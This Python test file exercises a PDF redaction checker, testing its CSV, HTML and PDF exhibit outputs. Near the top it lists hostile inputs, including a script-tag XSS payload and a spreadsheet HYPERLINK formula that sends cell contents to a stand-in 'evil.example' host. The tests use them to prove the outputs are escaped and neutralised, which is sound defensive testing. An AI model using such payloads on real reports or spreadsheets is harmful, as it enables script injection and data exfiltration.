"""Appeal outputs: the redaction log (CSV), the annotated exhibit (PDF) and the HTML report.

Hostile PDF text through HTML and CSV; exhibit numbering read back with PyMuPDF and matched to the
log; boxes drawn in the right place on rotated/cropped pages; recovered text absent unless asked
for; outputs never clobbered."""
import csv
import io
import re

import pymupdf
import pytest
from click.testing import CliRunner

import gen_batches
import gen_core
import redactlens
from conftest import sha256
from redactlens import geometry as g
from redactlens.cli import main
from redactlens.model import (BatchReport, ClearField, ClearText, ConsistencyItem, Context, DocumentReport, Leak,
                              Redaction)
from redactlens.output import OutputExists
from redactlens.report import csv_text, exhibit_bytes, html_text, numbered
from redactlens.report.csv_log import neutralise
from redactlens.report.exhibit import MARGIN

HOSTILE = ['<script>alert("x")</script>', '=HYPERLINK("http://evil.example/?q="&A1,"click")', '"quoted"',
           "+1+2", "-2+3", "@SUM(A1)", "\tTAB", "\rCR"]
SECRET = "Ines Batista"          # text left under a box in the geometry fixtures


@pytest.fixture(scope="module")
def geo(tmp_path_factory):
    """Rotated/cropped geometry fixtures (one box over live text each) plus a planted batch."""
    out = tmp_path_factory.mktemp("geo")
    fxs = [gen_core.Fixture("rot90", rotation=90), gen_core.Fixture("rot180", rotation=180),
           gen_core.Fixture("crop-rot90", rotation=90, crop=(100, 150, 500, 650)),
           gen_core.Fixture("mediabox-origin", media_shift=(40, -60)), gen_core.Fixture("plain")]
    paths = [gen_core.build(fx, [gen_core.geometry_page], str(out)) for fx in fxs]
    paths += gen_batches.make_batch(str(out / "batch"), "clear_by_leak")
    batch = redactlens.scan_many(paths, workers=0)
    return out, paths, batch


def _hostile_pdf(path):
    doc = pymupdf.open()
    page = doc.new_page(width=612, height=792)
    page.insert_text((72, 60), "REPORT " + HOSTILE[0], fontsize=12)
    y = 100
    for text in HOSTILE[:4]:
        page.insert_text((72, y), f"Note {text}: ", fontsize=10)
        page.draw_rect(pymupdf.Rect(400, y - 10, 480, y + 3), color=(0, 0, 0), fill=(0, 0, 0))
        y += 20
    # text left under a box: a leak whose text is hostile
    page.insert_text((72, y), "Caller:", fontsize=10)
    page.insert_text((140, y), '=HYPERLINK("http://evil.example","x")<script>', fontsize=10)
    page.draw_rect(pymupdf.Rect(138, y - 10, 420, y + 3), color=(0, 0, 0), fill=(0, 0, 0))
    doc.save(path)


def _hostile_batch(tmp_path):
    """A real scan of a PDF with hostile text, plus a hand-made report with hostile text in every
    string field an output prints."""
    p = tmp_path / "hostile.pdf"
    _hostile_pdf(str(p))
    batch = redactlens.scan_many([str(p)], workers=0)
    reds = [Redaction(id=f"x.pdf#p1-r{i}", page=1, bbox=[10, 10 + 20 * i, 50, 20 + 20 * i], method="vector",
                      label=h, field_evidence=h, exemptions=[h], style=h,
                      context=Context(before=h, after=h, label=h, header=h, sentence=h),
                      leak=Leak("text_under_box", h)) for i, h in enumerate(HOSTILE, 1)]
    doc = DocumentReport(path=str(tmp_path / 'x<script>alert(1)</script>.pdf'), pages=1, redactions=reds,
                         error=HOSTILE[0],
                         clear_text=ClearText(title=HOSTILE[0], page_sizes=[[612, 792]],
                                              fields=[ClearField(1, HOSTILE[1], HOSTILE[0])]))
    batch.documents.append(doc)
    batch.consistency.append(ConsistencyItem("exemption_inconsistent", HOSTILE[0] + HOSTILE[1],
                                             [reds[0].id], [HOSTILE[0], HOSTILE[1]]))
    return batch


def test_hostile_text_is_escaped_in_html(tmp_path):
    batch = _hostile_batch(tmp_path)
    labels = [r.label for r in batch.documents[0].redactions]
    assert any(lb and "HYPERLINK" in lb for lb in labels) or any("HYPERLINK" in (r.context.before or "")
                                                                  for r in batch.documents[0].redactions)
    for show in (False, True):
        html = html_text(batch, show_leaks=show)
        assert html.count("<script") == 1 and "alert(" in html          # only our own inline script
        assert "<script>alert" not in html
        assert "&lt;script&gt;alert(" in html
        assert 'evil.example/?q="' not in html                         # quotes escaped everywhere
        assert "Content-Security-Policy" in html
        assert not re.search(r'(src|href)\s*=\s*"(https?:)?//', html)     # nothing loaded from a network
        assert not re.search(r"<link\b", html)
        assert ("&lt;script&gt;alert(&#34;x&#34;)" in html) or ("&lt;script&gt;alert(&quot;x&quot;)" in html)


def test_hostile_text_is_neutralised_in_csv(tmp_path):
    batch = _hostile_batch(tmp_path)
    for show in (False, True):
        text = csv_text(batch, show_leaks=show)
        rows = list(csv.reader(io.StringIO(text)))
        assert rows[0][0] == "no" and len({len(r) for r in rows}) == 1
        for row in rows[1:]:
            for cell in row:
                assert not cell[:1] in ("=", "+", "-", "@", "\t", "\r"), cell
                assert not cell.lstrip()[:1] in ("=", "+", "@"), cell
        flat = [c for r in rows for c in r]
        assert "'" + HOSTILE[1] in flat and "'" + "+1+2" in flat and '"quoted"' in flat
        assert ("recovered_text" in rows[0]) == show
    p = tmp_path / "log.csv"
    redactlens.write_csv(batch, str(p))
    raw = p.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf") and b"\r\n" in raw
    assert raw.decode("utf-8-sig").startswith("no,document,page,")
    assert neutralise("=1+1") == "'=1+1" and neutralise("plain") == "plain" and neutralise(None) == ""


def test_csv_columns_and_numbers(geo):
    _, _, batch = geo
    rows = list(csv.DictReader(io.StringIO(csv_text(batch))))
    assert [int(r["no"]) for r in rows] == list(range(1, len(rows) + 1))
    assert len(rows) == sum(len(d.redactions) for d in batch.documents)
    leaky = [r for r in rows if r["recoverable"] == "yes"]
    assert leaky and all(r["recoverable_how"] for r in leaky)
    assert all(SECRET not in v and "Mauro" not in v for r in rows for v in r.values())
    assert any("same_value_in_clear" in r["consistency"] for r in rows)


def _exhibit_pages(doc):
    """exhibit page -> (document name, page number) read from the margin header."""
    out = {}
    for p in doc:
        m = re.search(r"^(.+?) \u2014 page (\d+) of \d+$", p.get_text(), re.M)
        if m:
            out[p.number] = (m.group(1), int(m.group(2)))
    return out


def test_exhibit_numbers_match_the_log(geo):
    _, _, batch = geo
    doc = pymupdf.open(stream=exhibit_bytes(batch), filetype="pdf")
    pages = _exhibit_pages(doc)
    assert len(pages) == sum(d.pages for d in batch.documents)
    where = {v: k for k, v in pages.items()}
    log = list(csv.DictReader(io.StringIO(csv_text(batch))))
    for row in log:
        p = doc[where[(row["document"], int(row["page"]))]]
        box = [float(row[k]) + MARGIN for k in ("x0", "top", "x1", "bottom")]
        # the number tag: a word equal to the log number, at the box's top-left corner
        tags = [g.to_display(w[:4], p) for w in p.get_text("words") if w[4] == row["no"]]
        # at the box (inside its corner, above, left or right of it) ... or in the margin with a
        # leader line that ends at the box's top corner
        near = any(-40 < t[0] - box[0] < box[2] - box[0] + 6 and -14 < t[1] - box[1] < 8 for t in tags)
        ends = [g.to_display((it[2].x, it[2].y, it[2].x, it[2].y), p)[:2] for d in p.get_drawings()
                for it in d.get("items", ()) if it[0] == "l"]
        led = any(abs(e[0] - c[0]) < 2.5 and abs(e[1] - c[1]) < 2.5 for e in ends for c in ((box[0], box[1]), (box[2], box[1])))
        assert tags and (near or led), (row["no"], tags, box)
        # the outline around the box
        outl = [g.to_display(d["rect"], p) for d in p.get_drawings() if d.get("fill") is None and d.get("color")]
        assert any(all(abs(a - b) < 2 for a, b in zip(o, box)) for o in outl), (row["no"], box)
    cover = "".join(p.get_text() for p in doc if p.get_text().startswith("redactlens exhibit \u2014 cover"))
    assert "Batch summary" in cover and "Consistency findings" in cover and "Legend" in cover
    assert "Index of redactions" in cover


def test_exhibit_boxes_land_on_the_black_boxes_of_rotated_pages(geo):
    _, _, batch = geo
    doc = pymupdf.open(stream=exhibit_bytes(batch), filetype="pdf")
    where = {v: k for k, v in _exhibit_pages(doc).items()}
    checked = 0
    for x in numbered(batch):
        if not x.doc.path.endswith(("rot90.pdf", "rot180.pdf", "crop-rot90.pdf", "mediabox-origin.pdf")):
            continue
        p = doc[where[(x.doc.path.rsplit("/", 1)[-1], x.red.page)]]
        pix = p.get_pixmap(dpi=72, annots=False)
        b = [v + MARGIN for v in x.red.bbox]
        # a point in the box away from the number tag (bottom-right quarter) must be black
        px, py = int(b[0] + 0.75 * (b[2] - b[0])), int(b[1] + 0.75 * (b[3] - b[1]))
        assert max(pix.pixel(px, py)) < 60, (x.doc.path, x.red.bbox, pix.pixel(px, py))
        checked += 1
    assert checked == 8


def test_leaked_text_absent_unless_asked(geo):
    _, _, batch = geo
    assert any(r.leak and r.leak.text == SECRET for d in batch.documents for r in d.redactions)
    plain = pymupdf.open(stream=exhibit_bytes(batch), filetype="pdf")
    text = "".join(p.get_text() for p in plain)
    assert SECRET not in text and "Mauro Perez" not in text.split("Consistency findings")[0]
    assert "Mauro" not in "".join(p.get_text() for p in plain if p.number in _exhibit_pages(plain)
                                  and _exhibit_pages(plain)[p.number][0] == "call-02.pdf")
    assert SECRET not in html_text(batch, thumbnails=False) and SECRET not in csv_text(batch)
    shown = pymupdf.open(stream=exhibit_bytes(batch, show_leaks=True), filetype="pdf")
    assert SECRET in "".join(p.get_text() for p in shown)
    assert SECRET in html_text(batch, show_leaks=True, thumbnails=False)
    assert SECRET in csv_text(batch, show_leaks=True)


def test_html_links_and_thumbnails(geo):
    _, _, batch = geo
    html = html_text(batch)
    n = sum(len(d.redactions) for d in batch.documents)
    assert html.count('class="box') == n and html.count("data:image/jpeg;base64,") == sum(d.pages for d in batch.documents)
    for k in range(1, n + 1):
        assert f'id="r{k}"' in html and f'id="b{k}"' in html
    for m in re.finditer(r'href="#(d\d+-p\d+)"', html):     # every finding link has its page
        assert f'id="{m.group(1)}"' in html


def test_no_clobber_and_checks_before_scanning(tmp_path, geo):
    _, paths, batch = geo
    src = paths[0]
    before = sha256(src)
    csv_p, html_p, ex_p = tmp_path / "log.csv", tmp_path / "r.html", tmp_path / "ex.pdf"
    ex_p.write_bytes(b"keep me")
    with pytest.raises(OutputExists):
        redactlens.write_exhibit(batch, str(ex_p))
    assert ex_p.read_bytes() == b"keep me"
    r = CliRunner().invoke(main, ["scan", src, "--csv", str(csv_p), "--html", str(html_p), "--exhibit", str(ex_p),
                                  "--workers", "0", "-q"])
    assert r.exit_code != 0 and "exists" in r.output
    assert not csv_p.exists() and not html_p.exists() and ex_p.read_bytes() == b"keep me"   # checked first
    r = CliRunner().invoke(main, ["scan", src, "--exhibit", src, "--force", "--workers", "0", "-q"])
    assert r.exit_code != 0 and "input" in r.output                                        # never over an input
    r = CliRunner().invoke(main, ["scan", src, "--csv", str(csv_p), "--html", str(html_p), "--exhibit", str(ex_p),
                                  "--force", "--workers", "0", "-q"])
    assert r.exit_code == 0, r.output
    assert csv_p.read_bytes().startswith(b"\xef\xbb\xbf") and html_p.read_text().startswith("<!DOCTYPE html>")
    assert pymupdf.open(str(ex_p)).page_count >= 2
    assert sha256(src) == before
    import os
    mask = os.umask(0)
    os.umask(mask)
    assert csv_p.stat().st_mode & 0o777 == 0o666 & ~mask     # the usual mode, not mkstemp's 0600


def test_missing_source_and_other_report_forms(tmp_path, geo):
    _, paths, batch = geo
    d = redactlens.scan(paths[-1])                      # a single DocumentReport
    moved = DocumentReport.from_dict(d.to_dict())
    moved.path = str(tmp_path / "gone.pdf")             # the source is no longer there
    doc = pymupdf.open(stream=exhibit_bytes(moved), filetype="pdf")
    assert "could not be opened" in "".join(p.get_text() for p in doc)
    html = html_text(moved)
    assert "source not available" in html and html.count('class="box') == len(d.redactions)
    data = batch.to_dict()                              # the contract JSON as a dict
    assert csv_text(data) == csv_text(batch)
    changed = tmp_path / "changed.pdf"
    changed.write_bytes(open(paths[-1], "rb").read())
    d2 = DocumentReport.from_dict(d.to_dict())
    d2.path = str(changed)
    d2.sha256 = "0" * 64
    assert "has changed since it was scanned" in "".join(p.get_text() for p in
                                                         pymupdf.open(stream=exhibit_bytes(d2), filetype="pdf"))


def test_exhibit_without_a_unicode_font(monkeypatch, geo):
    """A machine without DejaVu falls back to base-14 Helvetica: dashes and ellipses are spelled
    out in ASCII, nothing fails."""
    import redactlens.report.exhibit as ex
    monkeypatch.setattr(ex, "_FONT_FILES", ("/nonexistent/a.ttf", "/nonexistent/b.ttf"))
    _, _, batch = geo
    doc = pymupdf.open(stream=exhibit_bytes(batch), filetype="pdf")
    text = "".join(p.get_text() for p in doc)
    assert "redactlens exhibit - cover" in text and "\u2014" not in text and SECRET not in text
    assert redactlens.analyse_consistency(batch) == batch.consistency
